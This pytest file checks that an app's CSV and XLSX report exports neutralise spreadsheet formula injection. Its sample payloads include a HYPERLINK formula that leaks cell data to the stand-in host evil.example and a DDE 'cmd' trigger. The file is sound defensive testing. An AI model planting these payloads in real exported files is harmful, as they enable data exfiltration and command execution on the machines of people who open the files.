"""No live formulas in exported files (OWASP CSV injection): unit/account names and KB text that start
with =, +, -, @, tab or CR come out as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from app.spreadsheet import csv_bytes, neutralise, restore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_each_trigger_is_neutralised_and_restorable(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text
    assert neutralise(12) == 12 and neutralise(3.5) == 3.5 and neutralise("县公安局") == "县公安局"


def test_csv_cells_never_start_with_a_trigger() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes([HOSTILE, [1, 2.5, "-"]]).decode("utf-8-sig"))))
    assert all(cell.startswith("'") for cell in rows[0])
    assert rows[1] == ["1", "2.5", "'-"]


def test_unit_report_files_carry_hostile_names_as_text(
    client: Any, admin_headers: dict[str, str], make_unit: Any, make_account: Any
) -> None:
    make_unit("evil", '=HYPERLINK("http://evil.example","查看")')
    make_account("evil", platform="generic", name="@SUM(A1:A9)")
    for dimension in ("units", "accounts"):
        params = {"from": "2025-03-01", "to": "2025-03-31"}
        csv_resp = client.get(
            f"/api/v1/reports/{dimension}", params={**params, "format": "csv"}, headers=admin_headers
        )
        assert csv_resp.status_code == 200, csv_resp.text
        text = csv_resp.content.decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
        xlsx = client.get(
            f"/api/v1/reports/{dimension}", params={**params, "format": "xlsx"}, headers=admin_headers
        )
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        assert sheet is not None
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, (int, float)):
                    assert cell.data_type == "n"
